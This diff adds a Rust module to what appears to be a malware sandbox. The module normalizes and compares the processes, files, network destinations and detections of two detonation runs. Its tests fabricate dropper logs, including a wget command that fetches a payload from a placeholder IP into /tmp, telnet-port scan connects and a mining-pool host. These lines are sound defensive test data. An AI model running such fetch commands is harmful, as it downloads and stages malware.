@@ -0,0 +1,444 @@
+use std::{
+    collections::{BTreeSet, HashMap},
+    fs,
+    path::Path,
+};
+
+use anyhow::{bail, Result};
+use chrono::{DateTime, Utc};
+use common::*;
+use regex::{Captures, Regex};
+
+use crate::{
+    logsource::{self, LogFormat},
+    report,
+    rule::RuleEngine,
+    scope::{Detonation, Scope},
+    syscall::{StraceParser, Syscall},
+    syslog::SyslogEntry,
+    sysmon::SysmonEventData,
+};
+
+// connections to this many hosts on one port are a scan, whose hosts are random
+const SCAN_MIN_HOSTS: usize = 10;
+
+// replaces the parts of a behaviour that differ between runs of the same sample
+struct Normalizer {
+    guid: Regex,
+    time: Regex,
+    proc_pid: Regex,
+    temp_name: Regex,
+    hex: Regex,
+}
+
+impl Normalizer {
+    fn new() -> Self {
+        return Self {
+            guid: Regex::new(
+                r"(?i)\b[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\b",
+            )
+            .unwrap(),
+            time: Regex::new(
+                r"\b(\d{4}-\d{2}-\d{2}[T ]\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:?\d{2})?|\d{10}(\.\d+)?)\b",
+            )
+            .unwrap(),
+            proc_pid: Regex::new(r"/proc/\d+").unwrap(),
+            temp_name: Regex::new(r#"(/tmp|/var/tmp|/dev/shm)/([^/\s'"]+)"#).unwrap(),
+            hex: Regex::new(r"(?i)\b[0-9a-f]{16,}\b").unwrap(),
+        };
+    }
+
+    // mktemp, e.g. tmp.Xb3kQ9aZ1f, and names mixing letters and digits
+    fn is_random_name(name: &str) -> bool {
+        let stem = name.split('.').find(|p| !p.is_empty() && *p != "tmp");
+        let stem = match stem {
+            Some(stem) => stem,
+            None => return false,
+        };
+
+        return (name.starts_with("tmp") && name.len() > 3)
+            || (stem.len() >= 6
+                && stem.chars().any(|c| c.is_ascii_digit())
+                && stem.chars().any(|c| c.is_ascii_alphabetic()));
+    }
+
+    fn normalize(&self, s: &str) -> String {
+        let s = self.guid.replace_all(s, "<guid>");
+        let s = self.time.replace_all(&s, "<time>");
+        let s = self.proc_pid.replace_all(&s, "/proc/<pid>");
+        let s = self.temp_name.replace_all(&s, |c: &Captures| {
+            if Self::is_random_name(&c[2]) {
+                format!("{}/<random>", &c[1])
+            } else {
+                c[0].to_string()
+            }
+        });
+        let s = self.hex.replace_all(&s, "<hex>");
+
+        return s.to_string();
+    }
+}
+
+// normalized behaviours of the target in one run
+#[derive(Debug, Default)]
+pub struct RunBehaviour {
+    pub processes: BTreeSet<String>,
+    pub files: BTreeSet<String>,
+    pub network: BTreeSet<String>,
+    pub detections: BTreeSet<String>,
+}
+
+// hosts by port, collapsed into one destination per port for scans
+#[derive(Debug, Default)]
+struct Destinations(HashMap<u16, BTreeSet<String>>);
+
+impl Destinations {
+    fn add(&mut self, host: String, port: u16) {
+        self.0.entry(port).or_default().insert(host);
+    }
+
+    fn finish(self) -> BTreeSet<String> {
+        return self
+            .0
+            .into_iter()
+            .flat_map(|(port, hosts)| {
+                if hosts.len() >= SCAN_MIN_HOSTS {
+                    vec![format!("*:{} (scan)", port)]
+                } else {
+                    hosts
+                        .into_iter()
+                        .map(|h| format!("{}:{}", h, port))
+                        .collect()
+                }
+            })
+            .collect();
+    }
+}
+
+impl RunBehaviour {
+    // analyzes a result directory like the analyzer does, without the report
+    pub fn load(target_root_dir: &str, include_all: bool) -> Result<Self> {
+        let log_paths = logsource::find_logs(target_root_dir, LogFormat::Auto);
+
+        if log_paths.is_empty() {
+            bail!("No collector logs in {}", target_root_dir);
+        }
+
+        let detonation_path = format!("{}/{}", target_root_dir, DETONATION_FILE_NAME);
+        let detonation = if !include_all && Path::new(&detonation_path).exists() {
+            Some(Detonation::from_file(&detonation_path)?)
+        } else {
+            None
+        };
+
+        let normalizer = Normalizer::new();
+        let mut behaviour = Self::default();
+        let mut destinations = Destinations::default();
+        let user_rules = vec![];
+        let mut rule_engine = RuleEngine::new(&user_rules);
+
+        for (log_path, log_format) in &log_paths {
+            let mut log_source = logsource::open_file(log_path, *log_format)?;
+            let mut scope = detonation.clone().map(Scope::new);
+
+            while let Some(record) = log_source.next_record()? {
+                let payload = match &record.payload {
+                    Some(payload) => payload,
+                    None => continue,
+                };
+
+                // records that can not be parsed are skipped, --stats of a single run lists them
+                let entry = match SyslogEntry::parse(&record.raw, payload) {
+                    Ok(Some(entry)) => entry,
+                    _ => continue,
+                };
+
+                if scope.as_mut().is_some_and(|s| !s.contains(&entry)) {
+                    continue;
+                }
+
+                rule_engine.process(&entry);
+                behaviour.add_event(&entry, &normalizer, &mut destinations);
+            }
+        }
+
+        let syscall_log_path = format!("{}/{}", target_root_dir, SYSCALL_LOG_FILE_NAME);
+
+        if Path::new(&syscall_log_path).exists() {
+            let mut reader = logsource::open_reader(&syscall_log_path)?;
+            let mut parser = StraceParser::new();
+
+            while let Some(line) = logsource::read_line(reader.as_mut())? {
+                if let Ok(Some(syscall)) = parser.parse_line(&line) {
+                    rule_engine.process_syscall(&syscall);
+                    behaviour.add_syscall(&syscall, &normalizer, &mut destinations);
+                }
+            }
+        }
+
+        let dropped_dir = Path::new(target_root_dir).join(DROPPED_DIR_NAME);
+        let mut dropped_files = vec![];
+        report::collect_files(&dropped_dir, &mut dropped_files);
+
+        for path in &dropped_files {
+            let container_path = format!(
+                "/{}",
+                path.strip_prefix(&dropped_dir).unwrap().to_string_lossy()
+            );
+            let modified: DateTime<Utc> = fs::metadata(path)?.modified()?.into();
+
+            rule_engine.process_dropped_file(&container_path, modified.fixed_offset());
+            behaviour
+                .files
+                .insert(normalizer.normalize(&container_path));
+        }
+
+        behaviour.network = destinations.finish();
+        behaviour.detections = rule_engine
+            .finish()
+            .iter()
+            .map(|d| normalizer.normalize(&d.reason_for_detection))
+            .collect();
+
+        return Ok(behaviour);
+    }
+
+    fn add_event(&mut self, e: &SyslogEntry, n: &Normalizer, destinations: &mut Destinations) {
+        match &e.sysmon_event.data {
+            SysmonEventData::ProcessCreate(p) => {
+                if let Some(command_line) = &p.command_line {
+                    self.processes.insert(n.normalize(command_line));
+                }
+            }
+            SysmonEventData::NetworkConnect(c) => {
+                // the addresses of a domain may change between runs
+                let host = c
+                    .destination_hostname
+                    .clone()
+                    .unwrap_or(c.destination_ip.to_string());
+                destinations.add(host, c.destination_port);
+            }
+            SysmonEventData::FileCreate(f) => {
+                self.files.insert(n.normalize(&f.target_filename));
+            }
+            _ => (),
+        }
+    }
+
+    fn add_syscall(&mut self, s: &Syscall, n: &Normalizer, destinations: &mut Destinations) {
+        if let Some((ip, port)) = s.destination() {
+            destinations.add(ip.to_string(), port);
+        }
+
+        if s.error.is_some() {
+            return;
+        }
+
+        match s.name.as_str() {
+            // argv, e.g. ["wget", "http://example.com/x"]
+            "execve" => {
+                if let Some(argv) = s.field("arg1") {
+                    let args: Vec<&str> = argv
+                        .trim_start_matches('[')
+                        .trim_end_matches(']')
+                        .split(", ")
+                        .map(|a| a.trim_matches('"'))
+                        .collect();
+                    self.processes.insert(n.normalize(&args.join(" ")));
+                }
+            }
+            "creat" => {
+                if let Some(path) = s.field("arg0") {
+                    self.files.insert(n.normalize(path.trim_matches('"')));
+                }
+            }
+            "open" | "openat" => {
+                let (path, flags) = if s.name == "open" {
+                    (s.field("arg0"), s.field("arg1"))
+                } else {
+                    (s.field("arg1"), s.field("arg2"))
+                };
+
+                if let (Some(path), Some(flags)) = (path, flags) {
+                    if flags.contains("O_CREAT") {
+                        self.files.insert(n.normalize(path.trim_matches('"')));
+                    }
+                }
+            }
+            _ => (),
+        }
+    }
+}
+
+// prints the behaviours only in one of the runs and returns their number
+pub fn print_diff(name_a: &str, a: &RunBehaviour, name_b: &str, b: &RunBehaviour) -> usize {
+    let categories = [
+        ("Processes", &a.processes, &b.processes),
+        ("Files", &a.files, &b.files),
+        ("Network destinations", &a.network, &b.network),
+        ("Detections", &a.detections, &b.detections),
+    ];
+    let mut differences = 0;
+
+    println!("--- {}", name_a);
+    println!("+++ {}", name_b);
+
+    for (title, a, b) in categories {
+        println!("{}:", title);
+
+        let only_a: Vec<&String> = a.difference(b).collect();
+        let only_b: Vec<&String> = b.difference(a).collect();
+
+        if only_a.is_empty() && only_b.is_empty() {
+            println!("  (same)");
+            continue;
+        }
+
+        for behaviour in &only_a {
+            println!("  - {}", behaviour);
+        }
+        for behaviour in &only_b {
+            println!("  + {}", behaviour);
+        }
+
+        differences += only_a.len() + only_b.len();
+    }
+
+    if differences == 0 {
+        println!("Same behaviour");
+    } else {
+        println!("{} behaviours differ", differences);
+    }
+
+    return differences;
+}
+
+#[cfg(test)]
+mod tests {
+    use std::{env, process};
+
+    use super::*;
+
+    // a run of a dropper, name and hosts are what changes between its runs
+    fn result_dir(name: &str, temp_name: &str, first_host: u8, extra: &str) -> String {
+        let dir = env::temp_dir().join(format!("elf-sandbox-diff-{}-{}", name, process::id()));
+        let _ = fs::remove_dir_all(&dir);
+        fs::create_dir_all(&dir).unwrap();
+        fs::write(
+            dir.join(EBPF_LOG_FILE_NAME),
+            format!(
+                "Attaching 6 probes...\n\
+                 1691668810.200000\texec\t102\t100\t0\tbash\t/usr/bin/wget\twget -O /tmp/{} http://198.51.100.7/k\n\
+                 1691668810.300000\tcreate\t102\t100\t0\twget\t/tmp/{}\n\
+                 1691668810.400000\tconnect\t102\t100\t0\twget\t198.51.100.7\t80\n",
+                temp_name, temp_name
+            ),
+        )
+        .unwrap();
+
+        let mut trace = format!(
+            "4321  1691668811.000000 openat(AT_FDCWD, \"/proc/4321/maps\", O_RDONLY) = 3\n\
+             4321  1691668811.000100 openat(AT_FDCWD, \"/dev/shm/{}\", O_RDWR|O_CREAT|O_EXCL, 0600) = 4\n",
+            temp_name.trim_start_matches("tmp.")
+        );
+
+        for host in first_host..first_host + 12 {
+            trace.push_str(&format!(
+                "4321  1691668812.{:06} connect(5, {{sa_family=AF_INET, sin_port=htons(23), sin_addr=inet_addr(\"203.0.113.{}\")}}, 16) = -1 EINPROGRESS (Operation now in progress)\n",
+                host, host
+            ));
+        }
+        trace.push_str(extra);
+        fs::write(dir.join(SYSCALL_LOG_FILE_NAME), trace).unwrap();
+
+        return dir.to_str().unwrap().to_string();
+    }
+
+    #[test]
+    fn normalize_run_specific_values() {
+        let n = Normalizer::new();
+
+        for (s, normalized) in [
+            ("{5bd6ab47-0003-64d4-0000-000000000000}", "{<guid>}"),
+            (
+                "started at 2023-08-10T12:00:01.123456Z, 1691668801.5",
+                "started at <time>, <time>",
+            ),
+            ("cat /proc/4321/maps", "cat /proc/<pid>/maps"),
+            ("/tmp/tmp.Xb3kQ9aZ1f", "/tmp/<random>"),
+            ("/dev/shm/a1b2c3d4", "/dev/shm/<random>"),
+            ("/tmp/.x/kworker", "/tmp/.x/kworker"),
+            ("/var/tmp/update.sh", "/var/tmp/update.sh"),
+            (
+                "echo 44AFFq5kSiGBoZ 9f86d081884c7d65",
+                "echo 44AFFq5kSiGBoZ <hex>",
+            ),
+        ] {
+            assert_eq!(n.normalize(s), normalized, "{}", s);
+        }
+    }
+
+    #[test]
+    fn random_names() {
+        assert!(Normalizer::is_random_name("tmp.Xb3kQ9aZ1f"));
+        assert!(Normalizer::is_random_name("tmpa8x"));
+        assert!(Normalizer::is_random_name("a1b2c3d4.sh"));
+        assert!(!Normalizer::is_random_name("tmp"));
+        assert!(!Normalizer::is_random_name(".x"));
+        assert!(!Normalizer::is_random_name("kworker"));
+        assert!(!Normalizer::is_random_name("xmr64"));
+    }
+
+    #[test]
+    fn collapse_scanned_hosts() {
+        let mut destinations = Destinations::default();
+
+        for host in 1..=10 {
+            destinations.add(format!("203.0.113.{}", host), 23);
+        }
+        destinations.add("pool.minexmr.com".to_string(), 4444);
+
+        assert_eq!(
+            destinations.finish().into_iter().collect::<Vec<_>>(),
+            vec!["*:23 (scan)", "pool.minexmr.com:4444"]
+        );
+    }
+
+    #[test]
+    fn diff_runs() {
+        let a = result_dir("a", "tmp.Xb3kQ9aZ1f", 1, "");
+        let b = result_dir(
+            "b",
+            "tmp.P0q8LmZ2aa",
+            100,
+            "4321  1691668813.000000 connect(6, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr(\"198.51.100.9\")}, 16) = 0\n",
+        );
+        let run_a = RunBehaviour::load(&a, true).unwrap();
+        let run_b = RunBehaviour::load(&b, true).unwrap();
+
+        assert_eq!(
+            run_a.processes.iter().collect::<Vec<_>>(),
+            vec!["wget -O /tmp/<random> http://198.51.100.7/k"]
+        );
+        assert_eq!(
+            run_a.files.iter().collect::<Vec<_>>(),
+            vec!["/dev/shm/<random>", "/tmp/<random>"]
+        );
+        assert_eq!(print_diff("a", &run_a, "a", &run_a), 0);
+        assert_eq!(print_diff("a", &run_a, "b", &run_b), 1);
+        assert!(run_b.network.contains("198.51.100.9:443"));
+
+        fs::remove_dir_all(&a).unwrap();
+        fs::remove_dir_all(&b).unwrap();
+    }
+
+    #[test]
+    fn no_collector_logs() {
+        let dir = env::temp_dir().join(format!("elf-sandbox-diff-empty-{}", process::id()));
+        fs::create_dir_all(&dir).unwrap();
+
+        assert!(RunBehaviour::load(dir.to_str().unwrap(), true).is_err());
+
+        fs::remove_dir_all(&dir).unwrap();
+    }
+}